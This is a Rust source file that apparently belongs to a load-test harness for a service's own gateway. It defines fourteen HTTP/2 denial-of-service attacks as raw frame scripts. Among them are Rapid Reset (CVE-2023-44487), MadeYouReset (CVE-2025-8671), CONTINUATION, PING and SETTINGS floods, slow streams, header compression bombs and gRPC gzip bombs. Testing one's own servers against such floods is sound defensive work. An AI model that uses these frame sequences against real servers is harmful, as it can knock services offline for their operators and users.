//! Attacks in frames of HTTP/2.

use super::{
    Attack, FAST, Reads, SLOWLY,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RESET, SETTINGS, WINDOW_UPDATE, frame,
        head, header, kept, opening, stream,
    },
    http1::BOMB,
};
use std::time::Duration;

/// Frames of one step of a flood.
const BATCH: u64 = 100;

/// The window that streams have by default.
const WINDOW: u32 = 65_535;

const MESSAGES: &str = "/v1/topics/attacked/messages";

const fn flood(name: &'static str, what: &'static str, script: fn(usize, u64, &str) -> Vec<u8>) -> Attack {
    Attack { name, what, connections: 20, every: FAST, reads: Reads::Alive, tls: false, ends: true, script }
}

pub(super) const ATTACKS: [Attack; 14] = [
    Attack {
        connections: 1_000,
        every: SLOWLY,
        ..flood("slow-streams", "HTTP/2: heads and bodies that come by one byte a second", |n, step, host| {
            match (n % 2, step) {
                // The rest of the head is announced; what is answered to the gateway's settings is part of it.
                (0, 0) => {
                    let rest = frame(CONTINUATION, END_HEADERS, 1, &[0; 10_000]);
                    [&begun(HEADERS, 0, false, host), &rest[..9]].concat()
                }
                (0, _) => vec![0],
                (_, 0) => begun(HEADERS, END_HEADERS, true, host),
                _ => frame(DATA, 0, 1, b"x"),
            }
        })
    },
    flood("rapid-reset", "CVE-2023-44487: calls that are reset at once", |_, step, host| {
        steps(step, opening(WINDOW), |n| {
            let begun = frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head(false, "/v1/nodes", host));
            [begun, frame(RESET, 0, stream(n), &8u32.to_be_bytes())].concat()
        })
    }),
    flood("made-you-reset", "CVE-2025-8671: calls that the gateway itself must reset", |_, step, host| {
        steps(step, opening(WINDOW), |n| {
            let begun = frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head(false, "/v1/nodes", host));
            [begun, frame(WINDOW_UPDATE, 0, stream(n), &[0; 4])].concat()
        })
    }),
    flood("continuations", "a head without an end: empty and small CONTINUATION frames", |_, step, host| {
        steps(step, begun(HEADERS, 0, false, host), |n| {
            let mut part = Vec::new();
            if n % 2 == 0 {
                header(&mut part, "x", b"1");
            }
            frame(CONTINUATION, 0, 1, &part)
        })
    }),
    flood("empty-data", "empty DATA frames without an end", |_, step, host| {
        steps(step, begun(HEADERS, END_HEADERS, true, host), |_| frame(DATA, 0, 1, &[]))
    }),
    flood("settings", "SETTINGS frames, each to be acknowledged", |_, step, _| {
        steps(step, opening(WINDOW), |n| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, (n % 250) as u8]))
    }),
    flood("pings", "PING frames, each to be answered", |_, step, _| {
        steps(step, opening(WINDOW), |n| frame(PING, 0, 0, &n.to_be_bytes()))
    }),
    flood("window-updates", "WINDOW_UPDATE frames of one byte", |_, step, _| {
        steps(step, opening(WINDOW), |_| frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()))
    }),
    Attack {
        // Each has as many calls open as it may.
        connections: 5,
        every: SLOWLY,
        // Their streams end; the connection may belong to others too.
        ends: false,
        ..flood(
            "starved-windows",
            "128 large answers a connection, and no window for them",
            |n, step, host| {
                // Half of them take one byte, so that an answer is begun.
                if step > 0 {
                    return Vec::new();
                }
                let ask = |n| {
                    frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head(false, "/openapi.json", host))
                };
                [opening((n % 2) as u32), (0..128).flat_map(ask).collect()].concat()
            },
        )
    },
    Attack {
        every: Duration::from_millis(100),
        ..flood("large-heads", "heads of 256 KB", |_, step, host| {
            let begin = if step == 0 { opening(WINDOW) } else { Vec::new() };
            let mut first = head(false, "/v1/nodes", host);
            header(&mut first, "x-first", &[b'x'; 15_000]);
            let mut more = Vec::new();
            header(&mut more, "x-more", &[b'x'; 15_000]);
            let id = stream(step);
            let mut out = [begin, frame(HEADERS, END_STREAM, id, &first)].concat();
            (0..15).for_each(|_| out.extend(frame(CONTINUATION, 0, id, &more)));
            out.extend(frame(CONTINUATION, END_HEADERS, id, &[]));
            out
        })
    },
    Attack {
        every: Duration::from_millis(100),
        ..flood("header-bombs", "16 KB that unpack to 64 MB of headers", |_, step, host| {
            let begin = if step == 0 { opening(WINDOW) } else { Vec::new() };
            let mut block = head(false, "/v1/nodes", host);
            kept(&mut block, "x-bomb", &[b'x'; 3_900]);
            block.resize(16_000, 0xbe);
            [begin, frame(HEADERS, END_HEADERS | END_STREAM, stream(step), &block)].concat()
        })
    },
    Attack {
        connections: 5,
        ..flood("too-many-streams", "calls without an end, far more than may be open", |_, step, host| {
            steps(step, opening(WINDOW), |n| frame(HEADERS, END_HEADERS, stream(n), &body_head(host)))
        })
    },
    Attack {
        every: Duration::from_millis(200),
        // Each is answered with an error, and the next one may come.
        ends: false,
        ..flood("grpc-gzip-bombs", "48 MB packed into 48 KB, in gRPC", |_, step, host| {
            let begin = if step == 0 { opening(WINDOW) } else { Vec::new() };
            let (mut block, id) = (head(true, "/plexus.v1.TopicService/Publish", host), stream(step));
            header(&mut block, "content-type", b"application/grpc");
            header(&mut block, "grpc-encoding", b"gzip");
            let body = [&[1][..], &(BOMB.len() as u32).to_be_bytes(), &BOMB].concat();
            let mut out = [begin, frame(HEADERS, END_HEADERS, id, &block)].concat();
            body.chunks(16_000).for_each(|part| out.extend(frame(DATA, 0, id, part)));
            out.extend(frame(DATA, END_STREAM, id, &[]));
            out
        })
    },
    flood("priorities", "PRIORITY frames, which nobody heeds", |_, step, _| {
        steps(step, opening(WINDOW), |n| frame(2, 0, stream(n % 100), &[0, 0, 0, 0, 1]))
    }),
];

/// The opening, then a batch at every step.
fn steps(step: u64, opening: Vec<u8>, one: impl FnMut(u64) -> Vec<u8>) -> Vec<u8> {
    match step {
        0 => opening,
        step => ((step - 1) * BATCH..step * BATCH).flat_map(one).collect(),
    }
}

/// A connection whose first call has begun.
fn begun(kind: u8, flags: u8, post: bool, host: &str) -> Vec<u8> {
    let head = if post { body_head(host) } else { head(false, "/v1/nodes", host) };
    [opening(WINDOW), frame(kind, flags, 1, &head)].concat()
}

fn body_head(host: &str) -> Vec<u8> {
    let mut head = head(true, MESSAGES, host);
    header(&mut head, "content-type", b"text/plain");
    head
}
